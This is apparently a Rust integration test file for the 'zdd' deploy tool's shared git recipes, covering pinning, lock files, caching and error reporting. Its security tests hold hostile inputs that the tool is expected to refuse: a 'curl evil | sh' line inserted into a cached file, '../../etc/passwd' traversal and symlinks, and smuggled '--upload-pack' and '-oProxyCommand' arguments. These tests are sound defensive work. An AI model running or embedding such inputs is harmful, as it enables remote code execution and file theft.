//! Shared recipes: a repository of recipes served from a local bare repository (pushed to with
//! the real `git`) and imported with `git+file://`, pinned at a commit or, through `zdd.lock`,
//! at a tag or branch; the cache checked, `--offline`, errors naming `URL@COMMIT:LINE`.

use std::path::PathBuf;

use crate::support::{git, Repo, Sandbox};

const COMMON_V1: &str = "set(\"acme_greeting\", \"hello from v1\");\n";
const COMMON_V2: &str = "set(\"acme_greeting\", \"hello from v2\");\n";

/// The company's recipe: the stdlib deploy (from inside the repository, which has none of its
/// own), a module of the same repository, and a task hooked into the deploy.
const ACME: &str = "\
import \"deploy\";
import \"common\";

desc(\"Write the greeting into the release\");
task(\"acme:hello\", || {
    run(\"echo {{acme_greeting}} > {{release_path}}/hello.txt\");
});
after(\"deploy:shared\", \"acme:hello\");
";

/// A task that throws on line 3, and a top level that calls an unknown function on line 2.
const BROKEN_TASK: &str =
    "// the task below fails\ntask(\"acme:boom\", || {\n    throw \"acme refuses\";\n});\n";
const BROKEN_TOP: &str = "// the line below fails\nno_such_function();\n";

struct Shared {
    sandbox: Sandbox,
    work: Repo,
    /// `git+file://<sandbox>/recipes.git`
    url: String,
}

impl Shared {
    /// The app's repository, and the recipes' repository with one commit pushed to its bare
    /// repository (common says v1).
    fn new() -> (Shared, String) {
        let sandbox = Sandbox::new();
        let app = sandbox.repo("app-src");
        app.commit(&[("index.html", "one\n")], "one");
        let bare = sandbox.path("recipes.git");
        std::fs::create_dir_all(&bare).unwrap();
        git(&bare, &["init", "-q", "--bare", "-b", "main"]);
        let work = sandbox.repo("recipes-src");
        let url = format!("git+file://{}", bare.display());
        let shared = Shared { sandbox, work, url };
        let commit = shared.push(
            &[
                ("laravel-acme.rhai", ACME),
                ("common.rhai", COMMON_V1),
                ("broken-task.rhai", BROKEN_TASK),
                ("broken-top.rhai", BROKEN_TOP),
            ],
            "v1",
        );
        (shared, commit)
    }

    /// Commit `files` in the working repository and push `main` (and its tags).
    fn push(&self, files: &[(&str, &str)], message: &str) -> String {
        let commit = self.work.commit(files, message);
        let bare = self.sandbox.str("recipes.git");
        git(&self.work.path, &["push", "-q", "--tags", &bare, "main"]);
        commit
    }

    /// The app's recipe: `import` first, then the app's repository and deploy path.
    fn recipe(&self, import: &str) {
        self.sandbox.write(
            "deploy.rhai",
            &format!(
                "import \"{import}\";\nset(\"repository\", \"{}\");\nset(\"deploy_path\", \"{}\");\nlocalhost();\n",
                self.sandbox.str("app-src"),
                self.sandbox.str("app")
            ),
        );
    }

    /// The URL as zdd's output shows it (the sandbox path replaced).
    fn shown(&self) -> String {
        self.sandbox.normalize(&self.url)
    }

    /// The cached copy of `file` (the only tree in the cache holding it).
    fn cached(&self, cache: &str, file: &str) -> Vec<PathBuf> {
        let trees = self.sandbox.path(&format!("{cache}/zdd/recipes/trees"));
        let Ok(entries) = std::fs::read_dir(trees) else {
            return Vec::new();
        };
        entries
            .map(|e| e.unwrap().path().join("files").join(file))
            .filter(|p| p.exists())
            .collect()
    }
}

#[test]
fn a_task_of_a_recipe_imported_at_a_commit_deploys() {
    let (shared, commit) = Shared::new();
    let sandbox = &shared.sandbox;
    shared.recipe(&format!("{}@{commit}/laravel-acme", shared.url));
    sandbox.run(&["run", "deploy.rhai"]).success();
    assert_eq!(sandbox.read("app/current/hello.txt"), "hello from v1\n");
    assert_eq!(shared.cached(".cache", "laravel-acme.rhai").len(), 1);

    // `zdd tasks` and `--plan` name the repository and the commit of the shared task.
    let from = format!("from {}@{commit}/laravel-acme.rhai:5", shared.shown());
    let tasks = sandbox.run(&["tasks", "deploy.rhai"]);
    tasks.success();
    let line = tasks
        .stdout
        .lines()
        .find(|l| l.starts_with("acme:hello "))
        .unwrap_or_else(|| panic!("{}", tasks.stdout));
    assert!(
        line.ends_with(&format!("Write the greeting into the release ({from})")),
        "{line}"
    );
    let plan = sandbox.run(&["run", "deploy.rhai", "--plan"]);
    plan.success();
    let step = plan
        .stdout
        .lines()
        .find(|l| l.contains(". acme:hello "))
        .unwrap_or_else(|| panic!("{}", plan.stdout));
    assert!(
        step.ends_with(&format!(
            " {}@{commit}/laravel-acme.rhai:5:1",
            shared.shown()
        )),
        "{step}"
    );

    // The cache has it: the origin is not asked again, `--offline` is no obstacle.
    std::fs::rename(sandbox.path("recipes.git"), sandbox.path("gone.git")).unwrap();
    sandbox.run(&["run", "deploy.rhai", "--offline"]).success();
    assert_eq!(sandbox.releases("app").len(), 2);
}

#[test]
fn a_transitive_import_stays_at_the_commit_after_the_branch_moved_on() {
    let (shared, v1) = Shared::new();
    let sandbox = &shared.sandbox;
    shared.push(&[("common.rhai", COMMON_V2)], "v2");
    // Neither the app's own `common.rhai` nor the branch's newer one is imported.
    sandbox.write(
        "common.rhai",
        "throw \"the app's common.rhai was imported\";\n",
    );
    shared.recipe(&format!("{}@{v1}/laravel-acme", shared.url));
    sandbox.run(&["run", "deploy.rhai"]).success();
    assert_eq!(sandbox.read("app/current/hello.txt"), "hello from v1\n");
}

#[test]
fn a_tag_is_used_with_a_lock_file_and_refused_without_one() {
    let (shared, v1) = Shared::new();
    let sandbox = &shared.sandbox;
    git(&shared.work.path, &["tag", "v1"]);
    shared.push(&[], "tags");
    let import = format!("{}@v1/laravel-acme", shared.url);
    shared.recipe(&import);

    let refused = sandbox.run(&["run", "deploy.rhai"]);
    refused.expect(2);
    assert!(
        refused.stderr.contains(&format!(
            "error: import `{}@v1/laravel-acme` names `v1`, a branch or tag, and `zdd.lock` does not pin it to a commit",
            shared.shown()
        )),
        "{}",
        refused.stderr
    );
    assert!(
        refused
            .stderr
            .contains("hint: run `zdd recipes lock deploy.rhai` to pin it"),
        "{}",
        refused.stderr
    );
    assert!(!sandbox.path("app").exists(), "nothing ran");

    let locked = sandbox.run(&["recipes", "lock", "deploy.rhai"]);
    locked.success();
    assert_eq!(
        locked.stdout,
        format!("{}@v1: pinned at {v1}\n", shared.shown())
    );
    let lock = sandbox.read("zdd.lock");
    assert!(lock.contains(&format!("commit = \"{v1}\"")), "{lock}");
    assert!(lock.contains("ref = \"v1\""), "{lock}");
    assert!(lock.contains("\"common.rhai\" = "), "{lock}");
    sandbox.run(&["run", "deploy.rhai"]).success();
    assert_eq!(sandbox.read("app/current/hello.txt"), "hello from v1\n");
}

#[test]
fn update_moves_the_lock_and_prints_the_diff() {
    let (shared, v1) = Shared::new();
    let sandbox = &shared.sandbox;
    shared.recipe(&format!("{}@main/laravel-acme", shared.url));
    sandbox.run(&["recipes", "lock", "deploy.rhai"]).success();
    let v2 = shared.push(&[("common.rhai", COMMON_V2)], "v2");

    // Locked: the branch moving on changes nothing.
    sandbox.run(&["run", "deploy.rhai"]).success();
    assert_eq!(sandbox.read("app/current/hello.txt"), "hello from v1\n");

    let unknown = sandbox.run(&["recipes", "update", "deploy.rhai", "nope"]);
    unknown.expect(2);
    assert!(
        unknown.stderr.contains("pins no repository `nope`"),
        "{}",
        unknown.stderr
    );

    let update = sandbox.run(&["recipes", "update", "deploy.rhai", "recipes"]);
    update.success();
    assert!(
        update.stdout.starts_with(&format!(
            "{}@main: {} -> {}\n",
            shared.shown(),
            &v1[..12],
            &v2[..12]
        )),
        "{}",
        update.stdout
    );
    assert!(
        update
            .stdout
            .contains("\n-set(\"acme_greeting\", \"hello from v1\");\n+set(\"acme_greeting\", \"hello from v2\");\n"),
        "{}",
        update.stdout
    );
    assert!(sandbox
        .read("zdd.lock")
        .contains(&format!("commit = \"{v2}\"")));
    sandbox.run(&["run", "deploy.rhai"]).success();
    assert_eq!(sandbox.read("app/current/hello.txt"), "hello from v2\n");

    let again = sandbox.run(&["recipes", "update", "deploy.rhai"]);
    again.success();
    assert_eq!(
        again.stdout,
        format!("{}@main: at {} (unchanged)\n", shared.shown(), &v2[..12])
    );
}

#[test]
fn a_cached_file_changed_by_hand_is_refused() {
    let (shared, commit) = Shared::new();
    let sandbox = &shared.sandbox;
    shared.recipe(&format!("{}@{commit}/laravel-acme", shared.url));
    sandbox.run(&["tasks", "deploy.rhai"]).success();
    let cached = shared.cached(".cache", "laravel-acme.rhai");
    assert_eq!(cached.len(), 1);
    let text = std::fs::read_to_string(&cached[0]).unwrap();
    std::fs::write(&cached[0], text.replace("echo", "curl evil | sh; echo")).unwrap();

    let refused = sandbox.run(&["run", "deploy.rhai"]);
    refused.expect(2);
    let shown = sandbox.normalize(&cached[0].display().to_string());
    assert!(
        refused.stderr.contains(&format!(
            "`{shown}` was changed after zdd fetched it (its sha256 is not the one recorded when it entered the cache): refused"
        )),
        "{}",
        refused.stderr
    );
    assert!(!sandbox.path("app").exists(), "nothing ran");
}

#[test]
fn offline_with_an_empty_cache_is_refused() {
    let (shared, commit) = Shared::new();
    let sandbox = &shared.sandbox;
    let import = format!("{}@{commit}/laravel-acme", shared.url);
    shared.recipe(&import);
    let cache = sandbox.str("empty-cache");
    let refused = sandbox.run_with(
        &["run", "deploy.rhai", "--offline"],
        &[("XDG_CACHE_HOME", &cache)],
    );
    refused.expect(2);
    assert!(
        refused.stderr.contains(&format!(
            "error: import `{}`: the recipe cache lacks {}@{commit}, and --offline forbids fetching it",
            sandbox.normalize(&import),
            shared.shown()
        )),
        "{}",
        refused.stderr
    );
    assert!(shared.cached("empty-cache", "laravel-acme.rhai").is_empty());
    assert!(!sandbox.path("app").exists(), "nothing ran");
    // Without --offline the same cache is filled.
    sandbox
        .run_with(&["tasks", "deploy.rhai"], &[("XDG_CACHE_HOME", &cache)])
        .success();
    assert_eq!(shared.cached("empty-cache", "laravel-acme.rhai").len(), 1);
}

#[test]
fn an_error_inside_a_shared_recipe_names_its_url_commit_and_line() {
    let (shared, commit) = Shared::new();
    let sandbox = &shared.sandbox;
    let at = format!("{}@{commit}", shared.shown());

    shared.recipe(&format!("{}@{commit}/broken-top", shared.url));
    let top = sandbox.run(&["tasks", "deploy.rhai"]);
    top.expect(2);
    assert!(
        top.stderr
            .contains("error: unknown function `no_such_function`"),
        "{}",
        top.stderr
    );
    assert!(
        top.stderr
            .contains(&format!("--> {at}/broken-top.rhai:2:1\n")),
        "{}",
        top.stderr
    );
    assert!(
        top.stderr.contains("2 | no_such_function();"),
        "{}",
        top.stderr
    );

    shared.recipe(&format!("{}@{commit}/broken-task", shared.url));
    let task = sandbox.run(&["run", "deploy.rhai", "acme:boom"]);
    task.expect(1);
    assert!(
        task.stderr
            .contains(&format!("--> {at}/broken-task.rhai:3:")),
        "{}",
        task.stderr
    );
    assert!(
        task.stderr.contains("Caused by: acme refuses"),
        "{}",
        task.stderr
    );
}

#[test]
fn hostile_imports_are_refused_before_anything_changes() {
    let (shared, commit) = Shared::new();
    let sandbox = &shared.sandbox;
    let leaving = shared.work.path.join("leaving.rhai");
    std::os::unix::fs::symlink("../../etc/passwd", &leaving).unwrap();
    let with_link = shared.push(&[], "a link out");

    let cases = [
        (
            format!("{}@{commit}/../../etc/passwd", shared.url),
            "has a `..`: the module's path is inside the repository",
        ),
        (
            format!("{}@{}/laravel-acme", shared.url, &commit[..12]),
            "is not a full commit id: a commit is pinned by all 40 hex digits",
        ),
        (
            format!("{}@{commit}/laravel-acme\\n--upload-pack=x", shared.url),
            "it contains a newline",
        ),
        (
            format!("git+ssh://-oProxyCommand=x/r.git@{commit}/m"),
            "`-oProxyCommand=x` is not a host name",
        ),
    ];
    for (import, words) in cases {
        shared.recipe(&import);
        let refused = sandbox.run(&["run", "deploy.rhai"]);
        refused.expect(2);
        assert!(
            refused.stderr.contains("is refused: "),
            "{}",
            refused.stderr
        );
        assert!(refused.stderr.contains(words), "{}", refused.stderr);
        assert!(
            !sandbox.path(".cache/zdd/recipes").exists(),
            "nothing fetched for {import}"
        );
    }

    shared.recipe(&format!("{}@{with_link}/leaving", shared.url));
    let refused = sandbox.run(&["run", "deploy.rhai"]);
    refused.expect(2);
    assert!(
        refused.stderr.contains(&format!(
            "error: `{}@{with_link}/leaving.rhai` is a symbolic link to `../../etc/passwd`, outside the repository: refused",
            shared.shown()
        )),
        "{}",
        refused.stderr
    );
    assert!(!sandbox.path("app").exists(), "nothing ran");
}
